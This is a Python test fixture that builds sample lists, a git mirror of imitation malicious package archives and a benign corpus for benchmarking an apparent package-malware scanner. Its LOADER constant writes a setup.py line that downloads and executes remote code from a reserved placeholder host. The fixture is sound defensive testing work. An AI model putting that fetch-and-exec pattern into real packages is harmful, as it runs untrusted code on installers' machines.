"""Harmless imitations of what the scanner is measured on: lists, a mirror of "malicious" archives, a corpus."""

from __future__ import annotations

import hashlib
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

from scan_samples import Places
from support.scan import an_sdist

# What rules look for, and nothing of it works: the host is reserved and the payload says hello.
LOADER = "import urllib.request\nexec(urllib.request.urlopen('https://payload.invalid/hello.py').read())\n"
HARMLESS = "def add(one, other):\n    return one + other\n"
PRINTS = "print('a placeholder')\n"


@dataclass(slots=True)
class SamplePlaces:
    """Lists, mirror and corpus below one folder, filled sample by sample."""

    folder: Path
    families: list[tuple[str, str, str, str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        for name in ("lists", "corpus/benign/hard", "corpus/benign/ordinary", "corpus/wide", "corpus/micro"):
            (self.folder / name).mkdir(parents=True)
        subprocess.run(["git", "init", "--quiet", "--bare", str(self.folder / "mirror")], check=True)
        (self.folder / "lists" / "dev-benign.tsv").write_text("# kind\tfilename\tbytes\tsha256\n")
        for kind in ("wide", "micro"):
            (self.folder / "corpus" / kind / "manifest.tsv").write_text("# source\tproject\tfilename\tsha256\tpath\n")
        self._write_families()

    @property
    def places(self) -> Places:
        """What the benchmarks are told."""
        return Places(lists=self.folder / "lists", mirror=self.folder / "mirror", corpus=self.folder / "corpus")

    @property
    def malicious_list(self) -> Path:
        """The list of the imitations of malware."""
        return self.folder / "lists" / "dev-malicious.tsv"

    def add_family(self, name: str, raw: bytes, *, year: int = 2024, representative: bool = True) -> str:
        """Put an archive into the mirror and the list; returns its blob."""
        command = ["git", "-C", str(self.folder / "mirror"), "hash-object", "-w", "--stdin"]
        blob = subprocess.run(command, input=raw, capture_output=True, check=True).stdout.decode().strip()
        path = f"{name}/1/{name}-1.tar.gz"
        self.families.append((name, "yes" if representative else "no", blob, str(year), path))
        self._write_families()
        return blob

    def add_benign(self, kind: str, filename: str, raw: bytes, *, source: str = "repo", project: str = "") -> Path:
        """Put a file into the corpus and its list or manifest."""
        sha256 = hashlib.sha256(raw).hexdigest()
        if kind in ("hard", "ordinary"):
            path = self.folder / "corpus" / "benign" / kind / filename
            row, listed = f"{kind}\t{filename}\t{len(raw)}\t{sha256}\n", self.folder / "lists" / "dev-benign.tsv"
        else:
            path = self.folder / "corpus" / kind / filename
            row = f"{source}\t{project}\t{filename}\t{sha256}\t{kind}/{filename}\n"
            listed = self.folder / "corpus" / kind / "manifest.tsv"
        path.write_bytes(raw)
        with listed.open("a", encoding="utf-8") as lines:
            lines.write(row)
        return path

    def _write_families(self) -> None:
        rows = "".join("\t".join(row) + "\n" for row in self.families)
        self.malicious_list.write_text(f"# family\trepresentative\tblob\tyear\tpath\n{rows}", encoding="utf-8")


def filled(folder: Path) -> SamplePlaces:
    """A place with two families and one file of each benign kind."""
    made = SamplePlaces(folder)
    made.add_family("aaaa", an_sdist({"setup.py": LOADER}), year=2023)
    made.add_family("bbbb", an_sdist({"setup.py": PRINTS}), year=2025)
    made.add_benign("hard", "Agent_Tool-2.0.tar.gz", an_sdist({"tool.py": HARMLESS}))
    made.add_benign("ordinary", "calm-1.0.tar.gz", an_sdist({"calm.py": HARMLESS + "\n\nVALUE = 1\n"}))
    made.add_benign("wide", "small-0.1.tar.gz", an_sdist({"small.py": PRINTS}), project="small")
    made.add_benign("micro", "calm_part0-1.tar.gz", an_sdist({"part.py": HARMLESS}), source="dev", project="calm")
    return made
